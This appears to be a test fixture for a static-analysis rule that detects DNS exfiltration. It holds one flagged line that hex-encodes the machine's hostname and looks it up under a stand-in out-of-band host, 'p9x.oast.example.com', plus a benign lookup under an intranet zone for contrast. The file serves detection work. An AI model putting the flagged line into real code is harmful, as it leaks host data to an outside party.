import binascii, socket
_ZONE = "p9x.oast.example.com"
blob = binascii.hexlify(socket.gethostname().encode()).decode()
# ruleid: shell_dns_exfiltration
socket.getaddrinfo("%s.%s" % (blob, _ZONE), 80)
_HOME = "intranet.local"
# ok: shell_dns_exfiltration
socket.getaddrinfo("%s.%s" % (socket.gethostname(), _HOME), 80)
